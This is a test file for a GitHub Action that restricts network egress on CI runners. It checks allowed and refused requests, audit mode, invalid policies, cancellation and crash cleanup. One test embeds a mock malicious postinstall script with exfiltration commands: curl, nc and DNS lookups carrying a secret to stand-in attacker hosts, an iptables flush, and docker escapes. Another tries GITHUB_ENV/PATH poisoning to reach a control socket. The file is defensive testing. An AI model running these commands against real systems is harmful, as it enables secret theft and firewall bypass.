/** The Action in whole jobs on a runner's machine. */

import assert from "node:assert/strict";
import { EGRESS } from "../support/run.ts";
import { tool } from "../../src/demo/command.ts";
import { type Job, outcomeOf, RESULTS, runnerSuite } from "./suite.ts";

const test = runnerSuite({ hosts: [RESULTS] });

/** Everything that the Action changes on the machine. */
const STATE = `
  iptables-save | grep '^-'; cat /etc/sudoers.d/*; sha256sum /etc/ssl/certs/ca-certificates.crt
  ls -A /run/egress | grep -v stopped.json; systemctl list-units --plain --no-legend 'egress*'; readlink -f "$(command -v runc)"; true`;

const UNIT = "hosted-compute-agent.service";
const FETCH = "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n'";

/** A workflow in the form of the README's examples. */
function workflow(inputs: string, steps: string): string {
  return `
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: owner/egress@v1
        with:
${inputs.trim().split("\n").map((line) => `          ${line}`).join("\n")}
${steps}`;
}

const ALLOWING = `policy: |\n  site.test\n  GET http://site.test/*`;

/** The summary of the post hook. */
const summaryOf = (job: Job) => job.steps.find((s) => s.stage === "post")?.summary ?? "";

test("the README's example: what is named passes, the rest is refused and told", async (s) => {
  const before = (await s.machine.sh(STATE)).stdout;
  const first = s.machine.internet.received.length;
  const job = await s.job(workflow(
    ALLOWING,
    `
      - uses: actions/checkout@v4
      - id: good
        run: ${FETCH} http://site.test/page https://site.test/
      - id: bad
        run: ${FETCH} https://evil.test/steal || echo refused; sudo -n true || echo no sudo
`,
  ));
  assert.equal(job.conclusion, "success", job.text);
  assert.match(job.text, /200/);
  assert.match(job.text, /refused\n.*(\n.*)*no sudo/);
  const [blocked] = job.annotations.filter((a) => a.text.includes("evil.test"));
  assert.ok(blocked, JSON.stringify(job.annotations));
  assert.match(summaryOf(job), /evil\.test/);
  assert.match(summaryOf(job), /site\.test/);
  await s.machine.internet.world.settle();
  const received = s.machine.internet.received.slice(first);
  assert.deepEqual(received.filter((r) => JSON.stringify(r).includes("evil.test")), []);
  const uploads = received.filter((r) => r.kind === "request" && r.url.includes("/upload"));
  assert.equal(uploads.length, 1);
  assert.equal((await s.machine.sh(STATE)).stdout, before);
});

test("audit lets everything pass, and its log is a policy that the next run keeps", async (s) => {
  const steps = `
      - id: build
        run: ${FETCH} http://site.test/a; ${FETCH} https://site.test/b
`;
  const audit = await s.job(workflow(`audit: "true"`, steps));
  assert.equal(audit.conclusion, "success", audit.text);
  assert.equal(audit.text.match(/Z 200/g)?.length, 2, audit.text);
  const [, log] = /log in (\S+\.jsonl)/.exec(audit.text) ?? [];
  await Deno.writeTextFile(
    `${s.machine.srv}/audit.jsonl`,
    (await s.machine.run("cat", log ?? "")).stdout,
  );
  const suggested = await tool([EGRESS, "suggest", `${s.machine.srv}/audit.jsonl`]);
  const policy = `policy: |\n${suggested.trim().split("\n").map((l) => `  ${l}`).join("\n")}`;
  const enforced = await s.job(workflow(
    policy,
    `${steps}
      - run: ${FETCH} https://evil.test/ || echo refused
`,
  ));
  assert.equal(enforced.conclusion, "success", enforced.text);
  assert.equal(enforced.text.match(/Z 200/g)?.length, 2, enforced.text);
  assert.match(enforced.text, /Z refused/);
});

test("a policy that is not valid fails the job before its first step", async (s) => {
  const before = (await s.machine.sh(STATE)).stdout;
  const job = await s.job(workflow(
    "policy: |\n  site.test\n  http://[nonsense",
    `
      - id: never
        run: ${FETCH} http://site.test/
`,
  ));
  assert.equal(job.conclusion, "failure", job.text);
  assert.equal(outcomeOf(job, "never"), "skipped");
  assert.ok(job.annotations.some((a) => a.level === "error"), job.text);
  assert.equal((await s.machine.sh(STATE)).stdout, before);
});

test("malicious postinstall: nothing of the secret leaves, by whatever way it tries", async (s) => {
  const first = s.machine.internet.received.length;
  const before = await s.machine.internet.packets();
  const script = `
const { spawnSync } = require("child_process");
const tries = [
  "curl -sS -m 3 https://evil.test/$SECRET", "curl -sS -m 3 http://203.0.113.66/$SECRET",
  "curl -sS -m 3 --resolve site.test:443:203.0.113.66 https://site.test/$SECRET",
  "curl -sS -m 3 -H 'Host: evil.test' http://site.test/$SECRET",
  "python3 -c \\"import socket; socket.getaddrinfo('$SECRET.evil.test', 80)\\"",
  "echo $SECRET | nc -w 2 203.0.113.66 9000", "echo $SECRET | nc -u -w 1 203.0.113.66 53",
  "resolvectl query $SECRET.evil.test", "sudo -n iptables -F", "ping -c 1 -W 1 203.0.113.66",
  "docker run --rm --privileged --net host busybox wget -T 2 http://203.0.113.66/$SECRET",
  "docker run --rm -v /:/host busybox wget -T 2 http://203.0.113.66/$SECRET",
  "docker run --rm busybox wget -T 2 -O - http://203.0.113.66/$SECRET",
];
for (const line of tries) spawnSync("sh", ["-c", line], { env: { ...process.env, SECRET: "s3cr3t" } });
`;
  await s.machine.busybox();
  const job = await s.job(
    workflow(
      ALLOWING,
      `
      - uses: actions/checkout@v4
      - id: install
        run: /home/runner/actions-runner/cached/externals/node24/bin/node postinstall.js
`,
    ),
    { files: { "postinstall.js": script } },
  );
  assert.equal(outcomeOf(job, "install"), "success", job.text);
  await s.machine.internet.world.settle();
  const received = s.machine.internet.received.slice(first);
  assert.deepEqual(
    received.filter((r) => r.kind === "dns" ? r.name.includes("evil") : r.host === "evil.test"),
    [],
  );
  assert.equal((await s.machine.internet.packets()).attacker, before.attacker);
});

test("a step that claims to be the Action through GITHUB_ENV or GITHUB_PATH gives no orders", async (s) => {
  const order = `echo '{"op":"shutdown"}' | nc -N -w 5 -U /run/egress/control.sock; echo`;
  const job = await s.job(workflow(
    ALLOWING,
    `
      - id: poison
        run: |
          echo GITHUB_ACTION_REPOSITORY=owner/egress >> "$GITHUB_ENV"
          mkdir "$RUNNER_TEMP/bin"
          ln -s /home/runner/actions-runner/cached/externals/node24/bin/node "$RUNNER_TEMP/bin/python3"
          echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"
      - id: later
        run: |
          ${order}
      - id: node
        shell: /home/runner/actions-runner/cached/externals/node24/bin/node {0}
        run: console.log(require("child_process").execSync(${JSON.stringify(order)}).toString())
      - id: still
        run: ${FETCH} https://evil.test/ || echo still refused
`,
  ));
  assert.equal(job.conclusion, "success", job.text);
  // A refusal may come before the request was sent, and nc then prints nothing: the log tells.
  assert.doesNotMatch(job.text, /"ok":true/);
  assert.match(job.text, /refused a caller with user id 1001/);
  assert.match(job.text, /Z still refused/);
});

test("a cancelled job ends its guard, and the machine is as before", async (s) => {
  const before = (await s.machine.sh(STATE)).stdout;
  const job = await s.job(
    workflow(
      ALLOWING,
      `
      - id: long
        run: echo waiting; exec sleep 600
      - id: after
        run: echo never
`,
    ),
    {
      during: {
        line: /Z waiting/,
        then: () => s.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=INT", UNIT),
      },
    },
  );
  assert.equal(job.conclusion, "cancelled", job.text);
  assert.deepEqual([outcomeOf(job, "long"), outcomeOf(job, "after")], ["cancelled", "skipped"]);
  assert.match(job.text, /egress ended/);
  assert.equal((await s.machine.sh(STATE)).stdout, before);
});

test("a guard that is killed in the middle leaves the machine closed, and the job fails", async (s) => {
  const before = await s.machine.internet.packets();
  const job = await s.job(
    workflow(
      ALLOWING,
      `
      - id: fine
        run: |
          ${FETCH} http://site.test/before
          echo waiting
          until [ -e "$RUNNER_TEMP/killed" ]; do sleep 0.1; done
      - id: closed
        run: ${FETCH} http://site.test/after || echo closed; ${FETCH} http://203.0.113.66/ || echo closed
`,
    ),
    {
      during: {
        line: /Z waiting/,
        then: () =>
          s.machine.sh(
            `kill -9 $(pgrep -f '[b]undle/cli.js start') && touch /home/runner/work/_temp/killed`,
          ),
      },
    },
  );
  assert.equal(job.conclusion, "failure", job.text);
  assert.match(job.text, /Z 200/);
  assert.equal(job.text.match(/Z closed/g)?.length, 2, job.text);
  assert.equal((await s.machine.internet.packets()).attacker, before.attacker);
});
